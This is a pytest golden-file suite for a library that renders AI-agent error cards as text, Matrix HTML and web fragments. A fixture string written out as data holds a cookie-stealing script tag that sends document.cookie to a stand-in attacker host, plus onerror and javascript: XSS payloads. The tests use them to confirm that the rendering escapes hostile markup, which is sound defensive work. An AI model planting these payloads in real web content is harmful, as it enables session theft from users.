"""Golden files: the three renderings (and the notice content) of realistic cards.

A change to a rendering shows up as a diff under tests/cards/golden/. After checking
the diff by eye, regenerate with:  UPDATE_GOLDEN=1 .venv/bin/python -m pytest tests/cards
"""

from __future__ import annotations

import dataclasses
import json
import os
from collections.abc import Callable
from importlib import resources
from pathlib import Path

import pytest

from cards.codec import CARD_KEY, loads_payload, read_payload
from cards.kinds import Kind
from cards.notice import CONTENT_BUDGET, build_notice
from cards.render import render_html_fragment, render_html_page, render_matrix_html, render_plain
from cards.shape import Attempt, TurnError
from tests.cards.htmlcheck import check_matrix_html, check_page, flat

GOLDEN = Path(__file__).parent / "golden"
UPDATE = os.environ.get("UPDATE_GOLDEN") == "1"


def _examples() -> dict[str, TurnError]:
    folder = resources.files("cards") / "examples"
    out = {}
    for entry in sorted(folder.iterdir(), key=lambda e: e.name):
        if entry.name.endswith(".json"):
            card = loads_payload(entry.read_bytes())
            assert isinstance(card, TurnError), (entry.name, card)
            out[entry.name.removesuffix(".json")] = card
    return out


def _stack_trace(target: int) -> str:
    """A Node harness crashing with a long stack: about `target` bytes, deterministic."""
    lines = ["Error: ECONNRESET: socket hang up (request to https://api.example/v1/messages)"]
    i = 0
    while sum(len(x) + 1 for x in lines) < target:
        i += 1
        lines.append(
            f"    at Object.<anonymous> (/usr/lib/node_modules/agent/dist/chunk-{i:05d}.js:"
            f"{(i * 37) % 9000 + 1}:{(i * 11) % 80 + 1})"
        )
    return "\n".join(lines)


HOSTILE = (
    'The model said: <script>fetch("https://evil.example/?c="+document.cookie)</script>\n'
    '<img src=x onerror="alert(1)"> <a href="javascript:alert(2)">click me</a> '
    "<b>bold?</b> &amp; &lt;entity&gt; <!-- comment -->\n"
    "RTL override: \u202euoy kcatta lliw\u202c and isolate "
    "\u2067\u0645\u0631\u062d\u0628\u0627\u2069 and mark \u200f.\n"
    "Controls: ESC\x1b[31mred\x1b[0m NUL\x00 BEL\x07 BS\x08 DEL\x7f C1\x85 CRLF\r\nend\n"
    "Emoji: 🔥🤖 👩‍💻 🇫🇷 👍🏽 and a zero-width joiner\u200d here."
)


def _extra() -> dict[str, TurnError]:
    chain = _examples()["fallback_chain"]
    huge = _stack_trace(200_000)
    return {
        "huge_200kb": TurnError(
            kind=Kind.HARNESS_EXITED,
            message=huge,
            harness="gemini-cli",
            provider="google",
            model="gemini-2.5-pro",
            node="build-7",
            attempts=(Attempt(Kind.HARNESS_EXITED, huge, "google", "gemini-2.5-pro", 0),),
        ),
        "hostile_markup": TurnError(
            kind=Kind.REFUSAL,
            message=HOSTILE,
            harness="codex <b>cli</b>",
            provider="openai\u202e",
            model='gpt-5"><script>x</script>',
            attempts=(
                Attempt(Kind.REFUSAL, HOSTILE, "openai", "gpt-5", 400),
                Attempt(Kind.UNKNOWN, "second <i>try</i> 🔥", "openrouter", "x-ai/grok-4", 200),
            ),
        ),
        "recovered_chain": dataclasses.replace(chain, recovered=True),
        "attached": dataclasses.replace(
            chain,
            message=huge[:2_000],
            message_truncated=True,
            message_file="mxc://example.org/AbCdEfGh",
        ),
    }


CARDS: dict[str, TurnError] = {**_examples(), **_extra()}

# name -> (file suffix, rendering)
FORMS: dict[str, tuple[str, Callable[[TurnError], str]]] = {
    "plain": (".txt", render_plain),
    "matrix": (".matrix.html", render_matrix_html),
    "fragment": (".html", render_html_fragment),
    "content": (
        ".content.json",
        lambda e: json.dumps(_content_record(e), indent=1, ensure_ascii=False, sort_keys=True),
    ),
}


def _content_record(err: TurnError) -> dict[str, object]:
    notice = build_notice(err)
    return {
        "content": notice.content,
        "full_message_chars": None if notice.full_message is None else len(notice.full_message),
    }


def _compare(path: Path, actual: str) -> None:
    if UPDATE:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(actual.encode("utf-8"))
        return
    assert path.exists(), f"{path.name} is missing: run with UPDATE_GOLDEN=1 to write it"
    expected = path.read_bytes().decode("utf-8")
    assert actual == expected, f"{path.name} differs: check the diff, then UPDATE_GOLDEN=1"


def test_golden_set_covers_what_it_must() -> None:
    kinds = {e.kind for e in CARDS.values()}
    assert kinds == set(Kind)
    chain = CARDS["fallback_chain"]
    assert len(chain.attempts) == 3 and len({a.provider for a in chain.attempts}) == 2
    assert len(CARDS["huge_200kb"].message.encode()) >= 200_000


@pytest.mark.parametrize("form", list(FORMS))
@pytest.mark.parametrize("name", list(CARDS))
def test_golden(name: str, form: str) -> None:
    suffix, render = FORMS[form]
    err = CARDS[name]
    actual = render(err)
    if form == "matrix":
        check_matrix_html(actual)
    elif form == "fragment":
        check_page(actual)
    elif form == "content":
        content = build_notice(err).content
        assert len(json.dumps(content).encode()) <= CONTENT_BUDGET
        check_matrix_html(content["formatted_body"])
        assert isinstance(read_payload(content[CARD_KEY]), TurnError)
    _compare(GOLDEN / f"{name}{suffix}", actual)


def test_golden_page() -> None:
    # Every card but the 200 KB one, which has its own golden fragment.
    cards = [e for name, e in CARDS.items() if name != "huge_200kb"]
    page = render_html_page(cards, title="roombot golden cards")
    check_page(page)
    _compare(GOLDEN / "page.html", page)


def test_hostile_words_are_text_in_every_html_form() -> None:
    err = CARDS["hostile_markup"]
    for markup in (render_matrix_html(err), render_html_fragment(err)):
        parsed = check_matrix_html(markup) if "<article" not in markup else check_page(markup)
        assert "script" not in parsed.tags and "img" not in parsed.tags
        assert "a" not in parsed.tags and "b" not in parsed.tags and "i" not in parsed.tags
        data = flat(parsed.data)
        assert '<script>fetch("https://evil.example/?c="+document.cookie)</script>' in data
        assert "<!-- comment -->" in data and "&amp; &lt;entity&gt;" in data
        assert "👩‍💻 🇫🇷 👍🏽" in data
        assert "\x1b" not in data and "\x00" not in data and "\r" not in data
